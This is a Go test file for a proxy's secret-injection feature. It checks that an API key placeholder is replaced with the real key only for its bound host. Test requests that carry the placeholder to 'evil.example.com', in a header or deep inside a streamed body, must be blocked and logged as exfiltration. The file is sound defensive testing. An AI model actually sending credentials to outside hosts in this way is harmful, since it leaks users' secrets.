package proxy

import (
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"github.com/clawd-dev/clawd/policy"
	"github.com/clawd-dev/clawd/secrets"
)

// storeInjector adapts *secrets.Store the way the daemon does.
type storeInjector struct{ s *secrets.Store }

func (i storeInjector) Inject(r *http.Request, host string) (Injection, error) {
	inj, err := i.s.Inject(r, host)
	if inj == nil {
		return nil, err
	}
	return inj, err
}
func (i storeInjector) BoundTo(host string) bool   { return i.s.BoundTo(host) }
func (i storeInjector) ScansBody(host string) bool { return i.s.ScansBody(host) }
func (i storeInjector) Hint(host string) string    { return secrets.Hint(host) }

// TestRealSecretStore runs the proxy with the real secret store: injection
// on the bound host, misuse in a header and in a large streamed body.
func TestRealSecretStore(t *testing.T) {
	dir := t.TempDir()
	st, err := secrets.Open(filepath.Join(dir, "secrets.json"), filepath.Join(dir, "secrets.key"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	const real = "sk-real-value-0123456789"
	sec, err := st.Set(secrets.Secret{Name: "api", Hosts: []string{"api.example.com"}, Body: true}, []byte(real))
	if err != nil {
		t.Fatal(err)
	}
	ph := sec.Placeholder

	up := newUpstream(t, false, false, nil)
	e := newEnv(t, newDecider(policy.Allow), func(c *Config) {
		c.Injector = storeInjector{st}
		c.Names = fakeNames{"api.example.com": up.addr().Addr(), "evil.example.com": up.addr().Addr()}
	})
	cl := e.client(up.addr(), nil, false)
	do := func(host, auth string, body io.Reader) *http.Response {
		req, _ := http.NewRequest("POST", "http://"+host+"/v1", body)
		req.Header.Set("Authorization", "Bearer "+auth)
		resp, err := cl.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		return resp
	}

	resp := do("api.example.com", ph, strings.NewReader("x"))
	resp.Body.Close()
	if r, _ := up.last(); resp.StatusCode != 200 || r == nil || r.Header.Get("Authorization") != "Bearer "+real {
		t.Fatalf("bound host: %d, upstream did not get the real key", resp.StatusCode)
	}
	e.audit.next(t)

	resp = do("evil.example.com", ph, strings.NewReader("x"))
	if m := jsonBody(t, resp); resp.StatusCode != 403 || m["error"] != "placeholder_misuse" {
		t.Errorf("header misuse: %d %v", resp.StatusCode, m)
	}
	if ent := e.audit.next(t); ent.Event != "exfiltration" {
		t.Errorf("audit = %+v", ent)
	}

	// A body too large to be checked up front streams; the placeholder deep
	// inside cuts the upstream request off.
	big := strings.Repeat("a", 2<<20) + ph + "tail"
	req, _ := http.NewRequest("POST", "http://evil.example.com/upload", io.NopCloser(strings.NewReader(big)))
	req.ContentLength = -1 // chunked: unknown length
	resp, err = cl.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if m := jsonBody(t, resp); resp.StatusCode != 403 || m["error"] != "placeholder_misuse" {
		t.Errorf("streamed misuse: %d %v", resp.StatusCode, m)
	}
	if ent := e.audit.next(t); ent.Event != "exfiltration" || ent.Status != 403 {
		t.Errorf("audit = %+v", ent)
	}
	// The upstream may have seen the start of the truncated upload, but
	// never the placeholder or the secret.
	up.mu.Lock()
	defer up.mu.Unlock()
	for _, b := range up.body {
		if strings.Contains(string(b), ph) || strings.Contains(string(b), real) {
			t.Error("upstream received the misused placeholder or the secret")
		}
	}
}
